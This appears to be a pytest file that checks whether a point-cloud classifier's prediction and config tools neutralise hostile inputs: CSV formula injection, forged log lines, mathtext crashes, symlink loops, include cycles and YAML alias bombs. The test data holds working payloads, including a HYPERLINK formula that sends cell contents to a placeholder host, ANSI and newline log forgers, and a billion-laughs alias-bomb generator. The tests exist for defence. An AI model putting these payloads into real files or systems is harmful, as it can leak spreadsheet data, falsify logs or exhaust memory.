"""Text from files cannot forge output or crash a command: class names from a checkpoint, file
names and folder names in predictions.csv (spreadsheet formulas), the log (newlines, ANSI escape
sequences), the confusion-matrix picture (``$...$`` mathtext); class names of the wrong type;
symbolic links in a cached folder; ``_base_`` cycles and YAML alias bombs in configs. Through
``tools/predict.py`` and ``main.py``; the expectations follow the OWASP CSV-injection rule and
the repr escapes of Python."""
from __future__ import annotations

import csv
import json
import os
import time
from pathlib import Path

import numpy as np
import pytest
import torch

import main as main_module
from datasets.common import DatasetFormatError
from models import build_model_from_cfg
from tools import predict as predict_cmd
from utils.checkpoint import CheckpointError, save_safetensors
from utils.config import ConfigError, cfg_from_yaml_file
from utils.schema import to_plain
from utils.text import check_class_names, printable, spreadsheet_cell

FORMULA = '=HYPERLINK("https://example.invalid/?"&A3,"chair")'
FORGED = "2026-01-01 00:00:00,000 - predict - INFO - [predict] accuracy = 100.0000 %"
NEWLINE_ANSI = f"-lamp\n{FORGED}\x1b[2K\x1b[31m"  # a leading - too
MATH = r"$\frac{a}{$b"  # unbalanced mathtext: matplotlib raises ValueError when it parses it
SPREADSHEET_STARTS = ("=", "+", "-", "@", "\t", "\r")


def tiny_classifier_config(n_classes: int):
    cfg = cfg_from_yaml_file("cfgs/finetune_folder.yaml")
    cfg.model.update(trans_dim=32, encoder_dims=32, depth=2, num_heads=2, group_size=8, num_group=8, cls_dim=n_classes)
    cfg.npoints = 64
    cfg.dataset.test.others.N_POINTS = 96
    return cfg


def write_checkpoint(path: Path, class_names) -> Path:
    """A fine-tuned-classifier checkpoint as training writes it (random weights), naming ``class_names``."""
    torch.manual_seed(0)
    cfg = tiny_classifier_config(3)
    model = build_model_from_cfg(cfg.model)
    torch.save({"base_model": model.state_dict(), "config": to_plain(cfg), "class_names": class_names}, path)
    return path


def write_cloud(path: Path, seed: int) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    np.savetxt(path, np.random.default_rng(seed).normal(size=(200, 3)))
    return path


def test_predict_escapes_formulas_forged_lines_and_draws_dollar_names(tmp_path, monkeypatch):
    ckpt = write_checkpoint(tmp_path / "downloaded.pth", [FORMULA, NEWLINE_ANSI, MATH])
    monkeypatch.chdir(tmp_path)  # relative paths: the CSV's path cells start with the file names
    write_cloud(Path(MATH) / "=1+2.xyz", 1)  # in a class folder: accuracy, confusion matrix and its picture
    write_cloud(Path("@SUM(1+1).xyz"), 2)
    write_cloud(Path("=1+2.xyz"), 3)
    out = tmp_path / "out" / "predictions.csv"
    code = predict_cmd.main(["--ckpts", str(ckpt), "--input", MATH, "@SUM(1+1).xyz", "=1+2.xyz", "--out", str(out),
                             "--topk", "3", "--device", "cpu"])
    assert code == 0
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 3
    numeric = {"probability", "prob_1", "prob_2", "prob_3", "correct"}
    for row in rows:
        for key, value in row.items():
            if key not in numeric:
                assert not value.startswith(SPREADSHEET_STARTS), (key, value)
        assert 0.0 < float(row["prob_3"]) <= float(row["probability"]) <= 1.0  # numbers stay numbers
    by_path = {r["path"]: r for r in rows}
    assert set(by_path) == {os.path.join(MATH, "=1+2.xyz"), "'@SUM(1+1).xyz", "'=1+2.xyz"}
    names = {r[f"top_{i}"] for r in rows for i in (1, 2, 3)}
    assert names == {"'" + FORMULA, "'" + NEWLINE_ANSI, MATH}  # quoted and prefixed, otherwise the name as it is
    assert by_path[os.path.join(MATH, "=1+2.xyz")]["true_class"] == MATH
    log = out.with_suffix(".log").read_text(encoding="utf-8")
    assert "\x1b" not in log and "\r" not in log
    assert not any(line.startswith(FORGED) for line in log.splitlines())  # the name's newline is not a log line
    assert "-lamp\\n2026-01-01" in log and "\\x1b[31m" in log  # escaped, as repr writes them
    assert (tmp_path / "out" / "predictions_confusion.png").stat().st_size > 0


@pytest.mark.parametrize("names, words", [
    ("5", "expected a list of strings (one per class), got str '5'"),
    ("ab", "expected a list of strings (one per class), got str 'ab'"),
    ([1, 2, 3], "entry 0 is int 1"),
    (["a", "b"], "2 class names but model.cls_dim = 3"),
    (["a", "a", "b"], "class name 'a' appears twice"),
])
def test_class_names_of_the_wrong_type_are_one_line_naming_the_file(tmp_path, names, words):
    """A .safetensors export whose header says ``class_names: "5"`` (a JSON string, not a list)."""
    cfg = tiny_classifier_config(3)
    model = build_model_from_cfg(cfg.model)
    export = tmp_path / "model.safetensors"
    save_safetensors(model.state_dict(), str(export), config=to_plain(cfg), metadata={"class_names": json.dumps(names)})
    write_cloud(tmp_path / "in" / "x.xyz", 0)
    argv = ["--ckpts", str(export), "--input", str(tmp_path / "in"), "--out", str(tmp_path / "p.csv"), "--device", "cpu"]
    with pytest.raises(CheckpointError) as err:
        predict_cmd.main(argv)
    message = str(err.value)
    assert f"checkpoint '{export}': 'class_names' " in message and words in message and "\n" not in message
    assert not (tmp_path / "p.csv").exists()
    write_checkpoint(tmp_path / "c.pth", names)  # the same through a .pth
    with pytest.raises(CheckpointError, match=f"'{tmp_path / 'c.pth'}': 'class_names' "):
        predict_cmd.main(["--ckpts", str(tmp_path / "c.pth")] + argv[2:])


def test_class_names_that_are_not_json_are_one_line(tmp_path):
    cfg = tiny_classifier_config(3)
    export = tmp_path / "model.safetensors"
    save_safetensors(build_model_from_cfg(cfg.model).state_dict(), str(export), config=to_plain(cfg),
                     metadata={"class_names": "[chair, table"})
    with pytest.raises(CheckpointError, match="'class_names' entry is not JSON"):
        predict_cmd.main(["--ckpts", str(export), "--input", str(tmp_path), "--out", str(tmp_path / "p.csv")])


FOLDER_OPTS = ["model.trans_dim=32", "model.encoder_dims=32", "model.depth=2", "model.num_heads=2",
               "model.group_size=8", "model.num_group=8", "npoints=64", "total_bs=4", "max_epoch=1",
               "dataset.train.N_POINTS=96", "dataset.val.N_POINTS=96", "dataset.test.N_POINTS=96"]


def test_dangling_and_looping_symbolic_links_in_a_cached_folder_are_bad_files(tmp_path):
    root = tmp_path / "shapes"
    for c in ("a", "b"):
        for i in range(3):
            write_cloud(root / c / f"s{i}.xyz", i)
    os.symlink(tmp_path / "gone.xyz", root / "a" / "dangling.xyz")
    os.symlink("loop2.xyz", root / "b" / "loop1.xyz")
    os.symlink("loop1.xyz", root / "b" / "loop2.xyz")
    with pytest.raises(DatasetFormatError) as err:  # the cache is on (the dataset config's default)
        main_module.main(["--config", "cfgs/finetune_folder.yaml", "--scratch_model", "--data_root", str(root),
                          "--experiment_root", str(tmp_path / "exp"), "--device", "cpu", "--num_workers", "0",
                          "--opts", *FOLDER_OPTS])
    message = str(err.value)
    assert message.startswith(f"3 bad files in {root}: unreadable (3 files): ") and "\n" not in message
    assert "a/dangling.xyz ((a dangling symbolic link, to " in message
    assert "b/loop1.xyz ((a loop of symbolic links))" in message and "b/loop2.xyz" in message


def config_error(tmp_path: Path, cfg: Path) -> str:
    with pytest.raises(ConfigError) as err:
        main_module.main(["--config", str(cfg), "--experiment_root", str(tmp_path / "exp"), "--device", "cpu"])
    assert not (tmp_path / "exp").exists()
    return str(err.value)


def test_a_base_include_cycle_is_one_line_naming_the_cycle(tmp_path):
    (tmp_path / "a.yaml").write_text("dataset: {train: {_base_: b.yaml, others: {subset: train}}}\n")
    (tmp_path / "b.yaml").write_text("_base_: c.yaml\n")
    (tmp_path / "c.yaml").write_text("_base_: a.yaml\nNAME: ShapeNet\n")
    message = config_error(tmp_path, tmp_path / "a.yaml")
    assert "_base_ 'a.yaml' includes itself: a.yaml -> b.yaml -> c.yaml -> a.yaml" in message
    assert message.endswith(f"(in {tmp_path / 'c.yaml'})")
    (tmp_path / "self.yaml").write_text("_base_: self.yaml\n")
    assert "includes itself: self.yaml -> self.yaml" in config_error(tmp_path, tmp_path / "self.yaml")


def alias_bomb(levels: int) -> str:
    """A value whose aliases expand to 9 ** levels strings (levels = 10: 3.5 billion) in ~700 bytes."""
    parts = ["&a0 [x, x, x, x, x, x, x, x, x]"]
    parts += [f"&a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels)]
    return "[" + ", ".join(parts) + "]"


def test_a_yaml_alias_bomb_is_refused_fast_in_one_short_line(tmp_path):
    base = Path("cfgs/pretrain.yaml").read_text()
    cfg = tmp_path / "bomb.yaml"
    cfg.write_text(base + f"\nnpoints: {alias_bomb(10)}\n")
    start = time.perf_counter()
    message = config_error(tmp_path, cfg)
    assert time.perf_counter() - start < 10.0  # expanding it takes hours and terabytes
    assert "expands to more than 100,000 values once its aliases (*name) are expanded" in message
    assert len(message) < 1000 and "\n" not in message and str(cfg) in message
    # a smaller one that loads: the value quoted in the error is shortened
    cfg.write_text(base + f"\nnpoints: {alias_bomb(4)}\n")
    message = config_error(tmp_path, cfg)
    assert message.startswith("'npoints' = [['x', ") and "characters cut" in message and len(message) < 1000
    cfg.write_text(base + "\nnpoints: &loop [1, *loop]\n")
    assert "uses an alias inside its own anchor (line" in config_error(tmp_path, cfg)


def test_printable_escapes_controls_and_bidi_overrides_like_repr():
    text = "a\nb\rc\x1b[31md\u202eevil\u2066e\x85f\x00g\x7f"
    assert printable(text) == repr(text)[1:-1]  # the escapes repr writes
    assert printable("é 中 \U0001f600 $x$ tab\tx") == "é 中 \U0001f600 $x$ tab\\tx"
    assert printable("two\nlines\tand\x1b", keep_newlines=True) == "two\nlines\tand\\x1b"


@pytest.mark.parametrize("cell, expected", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("chair", "chair"), ("a=b", "a=b"), ("", ""), (None, ""),
])
def test_spreadsheet_cells_follow_the_owasp_rule(cell, expected):
    assert spreadsheet_cell(cell) == expected


def test_check_class_names_accepts_lists_and_tuples_of_strings():
    assert check_class_names(("chair", "table"), 2) == ["chair", "table"]
